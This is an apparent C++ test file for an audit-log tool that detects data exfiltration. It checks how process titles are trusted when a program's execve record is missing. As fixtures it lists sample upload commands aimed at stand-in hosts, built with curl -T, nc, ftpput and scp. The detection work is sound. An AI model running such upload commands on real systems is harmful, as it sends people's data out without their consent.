#include "host_with_cron.hpp"

/// Programs whose execve is not in the log: PROCTITLE may be the parent's, cut or chosen.
namespace auexfil::test {
namespace {

/// A connection of a program that is first seen by its calls, under that title.
std::vector<facts::Fact> first_seen(const std::string& exe, const std::vector<std::string>& title,
                                    std::size_t most = 128) {
  CronHost log;
  log.titles = false;
  std::string joined;
  for (const std::string& word : title) {
    joined += (joined.empty() ? "" : std::string(1, '\0')) + word;
  }
  std::string hex;
  for (const char c : joined.substr(0, most)) {
    hex += fmt::format("{:02X}", static_cast<unsigned char>(c));
  }
  const int shell = log.job("x");
  log.fork(shell, shell + 1);
  log.who(shell + 1).exe = exe;
  log.who(shell + 1).comm = exe.substr(exe.rfind('/') + 1).substr(0, 15);
  log.call(shell + 1, "socket", 3, {2, 1, 0}, {"PROCTITLE proctitle=" + hex});
  log.titles = true;
  log.connect(shell + 1, 3, kDrop, 2222);
  log.upload(shell + 1, 3, 1000000);
  log.close(shell + 1, 3);
  return tell(log);
}

}  // namespace

TEST_CASE("title: believed where the program agrees") {
  const auto row = GENERATE(table<std::string, std::vector<std::string>, bool>({
      {"/usr/bin/curl", {"curl", "-T", "f", "https://h.example/"}, true},
      {"/usr/bin/curl", {"/usr/local/bin/curl", "-T", "f", "https://h.example/"}, true},
      {"/usr/bin/nc.openbsd", {"nc", "h.example", "2222"}, true},
      {"/usr/bin/tnftp", {"ftp", "-n", "h.example"}, true},
      {"/usr/bin/busybox", {"ftpput", "h.example", "r", "l"}, true},
      {"/usr/bin/python3.11", {"python3", "x.py"}, true},
      {"/usr/bin/bash", {"sh", "-c", "x"}, true},
      {"/usr/bin/curl", {"bash", "-c", "curl -T f https://h.example/"}, false},
      {"/usr/bin/curl", {"scp", "f", "h.example:"}, false},
      {"/opt/agent", {"curl", "-T", "f", "https://h.example/"}, false},
      {"/usr/bin/ssh", {"sshd: user@pts/0"}, false},
      {"/usr/sbin/sshd", {"sshd: user [priv]"}, false},
  }));
  const auto& [exe, title, agrees] = row;
  CAPTURE(exe, title);
  const auto facts = first_seen(exe, title);
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].process.argv == (agrees ? title : std::vector<std::string>{}));
  CHECK(has_note(facts[0], agrees ? "arguments are of PROCTITLE" : "its title reads \""));
  if (!agrees) {
    CHECK_FALSE(facts[0].destinations[0].name);
  }
}

TEST_CASE("title: one that is not the program's own, or is cut, makes no upload a download") {
  for (const std::vector<std::string>& title :
       {std::vector<std::string>{"bash", "-c", "x"},
        {"curl", "-o", std::string(130, 'x'), "-T", "f", "https://h.example/"}}) {
    const auto facts = first_seen("/usr/bin/curl", title);
    REQUIRE(facts.size() == 1);
    CHECK(facts[0].tool == "curl");
    CHECK(facts[0].direction == transfer::Direction::out);
  }
}

TEST_CASE("title: names no tool but the program's own") {
  const auto facts = first_seen("/opt/agent", {"curl", "-T", "f", "https://h.example/"});
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].tool == "other");
}

TEST_CASE("title: the last word of a cut one is not used") {
  const std::string path(100, 'x');
  const auto facts =
      first_seen("/usr/bin/scp", {"scp", "-q", path, "drop@backup.example.org:up/"}, 128);
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].tool == "scp");
  CHECK(facts[0].process.argv == std::vector<std::string>{"scp", "-q", path});
  CHECK_FALSE(facts[0].destinations[0].name);
  CHECK(has_note(facts[0], "cut at 128 bytes"));
}

}  // namespace auexfil::test
